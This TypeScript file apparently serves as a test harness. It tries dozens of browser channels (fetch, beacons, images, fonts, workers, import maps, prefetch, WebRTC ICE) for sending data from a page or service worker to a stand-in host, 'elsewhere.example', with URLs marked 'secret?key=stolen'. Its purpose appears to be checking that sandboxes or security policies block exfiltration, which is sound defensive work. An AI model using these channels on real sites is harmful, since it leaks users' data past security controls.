/** Every way in which a document or a worker can make its browser ask another host for something. */
export const DOCUMENT_WAYS = [
  ...[
    'fetch',
    'fetch without CORS',
    'fetch that outlives the page',
    'XMLHttpRequest',
    'WebSocket',
    'EventSource',
    'sendBeacon',
  ],
  ...[
    'image',
    'srcset',
    'script',
    'module script',
    'stylesheet',
    'style rule',
    'font',
    'iframe',
    'object',
    'video',
    'track',
  ],
  ...['form', 'form in a frame', 'dynamic import', 'worker', 'shared worker', 'blob worker', 'import map', 'SVG image'],
  ...[
    'prefetch',
    'preload',
    'module preload',
    'manifest',
    'icon',
    'ping',
    'speculation rules',
    'favicon',
    'plain http',
  ],
] as const;

export const WORKER_WAYS = [
  ...['fetch', 'fetch without CORS', 'fetch that outlives the page', 'XMLHttpRequest', 'WebSocket', 'EventSource'],
  ...['dynamic import', 'importScripts', 'cache', 'navigation preload', 'plain http', 'WebTransport'],
] as const;

const word = (text: string): string => text.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-');

/** One host for each way out, so that the server that counts knows which way was taken, and from where. */
export const hostFor = (way: string, from: string): string => `${word(way)}.${domainOf(from)}`;
export const domainOf = (from: string): string => `from-${word(from)}.elsewhere.example`;

/**
 * Runs in a document: tries one way, and comes back when its outcome is known to the document, or after a moment where
 * a document is never told. What the browser says of it is dropped: only what arrives counts.
 */
export const leaveDocument = async (way: string, host: string): Promise<void> => {
  const url = `https://${host}/secret?key=stolen`;
  const settle = (what: Promise<unknown>): Promise<unknown> =>
    Promise.race([what.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 1_000))]);
  const told = (target: EventTarget, act: () => void): Promise<unknown> =>
    settle(
      new Promise((resolve) => {
        for (const kind of ['load', 'error', 'loadstart', 'close', 'securitypolicyviolation'])
          target.addEventListener(kind, resolve, { once: true });
        act();
      }),
    );
  const put = (tag: string, attributes: Record<string, string>, inside: Element[] = []): Promise<unknown> => {
    const element = document.createElement(tag);
    return told(element, () => {
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.append(...inside);
      (document.body ?? document.documentElement).append(element);
    });
  };
  const write = (tag: string, text: string, attributes: Record<string, string> = {}): Promise<unknown> => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.append(text);
    return told(element, () => document.documentElement.append(element));
  };
  const child = (tag: string, attributes: Record<string, string>): Element => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    return element;
  };
  const submit = async (target: string): Promise<unknown> => {
    if (target !== '_self') await put('iframe', { name: target });
    const form = child('form', { action: url, method: 'post', target });
    document.documentElement.append(form);
    if (form instanceof HTMLFormElement) return told(form, () => form.submit());
  };

  const ways: Record<string, () => unknown> = {
    fetch: () => settle(fetch(url)),
    'fetch without CORS': () => settle(fetch(url, { mode: 'no-cors', method: 'POST', body: 'stolen' })),
    'fetch that outlives the page': () => settle(fetch(url, { keepalive: true, mode: 'no-cors' })),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      return told(request, () => {
        request.open('GET', url);
        request.send();
      });
    },
    WebSocket: () => told(new WebSocket(`wss://${host}/`), () => undefined),
    EventSource: () => told(new EventSource(url), () => undefined),
    sendBeacon: () => navigator.sendBeacon(url, 'stolen'),
    image: () => put('img', { src: url }),
    srcset: () => put('img', { srcset: `${url} 2x` }),
    script: () => put('script', { src: url }),
    'module script': () => put('script', { src: url, type: 'module' }),
    stylesheet: () => put('link', { rel: 'stylesheet', href: url }),
    'style rule': () => write('style', `html { background: url("${url}") }`),
    font: async () => {
      await write('style', `@font-face { font-family: out; src: url("${url}") } html { font-family: out }`);
      await settle(document.fonts.load('12px out'));
    },
    iframe: () => put('iframe', { src: url }),
    object: () => put('object', { data: url, type: 'text/html' }),
    video: () => put('video', { src: url, preload: 'auto' }),
    track: () => put('video', { crossorigin: '', preload: 'auto' }, [child('source', { src: url })]),
    form: () => submit('_blank'),
    'form in a frame': () => submit('out'),
    'dynamic import': () => settle(import(/* @vite-ignore */ url)),
    worker: () => told(new Worker(url), () => undefined),
    'shared worker': () => told(new SharedWorker(url), () => undefined),
    'blob worker': () => {
      const blob = URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(url)})`]));
      return told(new Worker(blob), () => undefined);
    },
    'import map': async () => {
      await write('script', JSON.stringify({ imports: { out: url } }), { type: 'importmap' });
      await write('script', 'import "out"', { type: 'module' });
    },
    'SVG image': async () => {
      const space = 'http://www.w3.org/2000/svg';
      const picture = document.createElementNS(space, 'svg');
      const image = document.createElementNS(space, 'image');
      image.setAttribute('href', url);
      picture.append(image);
      await told(image, () => document.documentElement.append(picture));
    },
    prefetch: () => put('link', { rel: 'prefetch', href: url }),
    preload: () => put('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: url }),
    'module preload': () => put('link', { rel: 'modulepreload', href: url }),
    manifest: () => put('link', { rel: 'manifest', href: url }),
    icon: () => put('link', { rel: 'icon', href: url }),
    favicon: () => put('link', { rel: 'shortcut icon', href: url }),
    ping: () => {
      const link = child('a', { href: '#', ping: url });
      document.documentElement.append(link);
      if (link instanceof HTMLElement) link.click();
    },
    'speculation rules': () =>
      write('script', JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }), {
        type: 'speculationrules',
      }),
    'plain http': () => settle(fetch(url.replace('https:', 'http:'), { mode: 'no-cors' })),
  };
  try {
    await ways[way]?.();
  } catch {
    // Refused at once: as good as never sent.
  }
};

/** The same in a service worker. */
export const leaveWorker = async (way: string, host: string): Promise<void> => {
  const url = `https://${host}/secret?key=stolen`;
  const scope = globalThis as unknown as Record<string, (new (url: string) => EventTarget) | undefined> & {
    importScripts(url: string): void;
    registration?: { navigationPreload?: { enable(): Promise<void>; setHeaderValue(value: string): Promise<void> } };
  };
  const settle = (what: Promise<unknown>): Promise<unknown> =>
    Promise.race([what.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 1_000))]);
  const open = (name: string, address: string): Promise<unknown> =>
    settle(
      new Promise((resolve, reject) => {
        const Kind = scope[name];
        if (!Kind) return reject(new Error('not here'));
        const made = new Kind(address);
        for (const kind of ['error', 'close', 'open']) made.addEventListener?.(kind, resolve);
      }),
    );
  const ways: Record<string, () => unknown> = {
    fetch: () => settle(fetch(url)),
    'fetch without CORS': () => settle(fetch(url, { mode: 'no-cors', method: 'POST', body: 'stolen' })),
    'fetch that outlives the page': () => settle(fetch(url, { keepalive: true, mode: 'no-cors' })),
    XMLHttpRequest: () => open('XMLHttpRequest', url),
    WebSocket: () => open('WebSocket', `wss://${host}/`),
    EventSource: () => open('EventSource', url),
    WebTransport: () => open('WebTransport', url),
    'dynamic import': () => settle(import(/* @vite-ignore */ url)),
    importScripts: () => scope.importScripts(url),
    cache: () => settle(caches.open('out').then((cache) => cache.add(url))),
    'navigation preload': () => settle(Promise.resolve(scope.registration?.navigationPreload?.enable())),
    'plain http': () => settle(fetch(url.replace('https:', 'http:'), { mode: 'no-cors' })),
  };
  try {
    await ways[way]?.();
  } catch {
    // Refused at once: as good as never sent.
  }
};

/** Runs in a document: gathers addresses by a server elsewhere, as a call would. */
export const callByWebRtc = async (server: string): Promise<void> => {
  if (typeof RTCPeerConnection === 'undefined') return;
  const connection = new RTCPeerConnection({ iceServers: [{ urls: server }] });
  connection.createDataChannel('out');
  await connection.setLocalDescription(await connection.createOffer());
  await new Promise<void>((resolve) => {
    connection.addEventListener(
      'icegatheringstatechange',
      () => connection.iceGatheringState === 'complete' && resolve(),
    );
    setTimeout(resolve, 1_500);
  });
  connection.close();
};
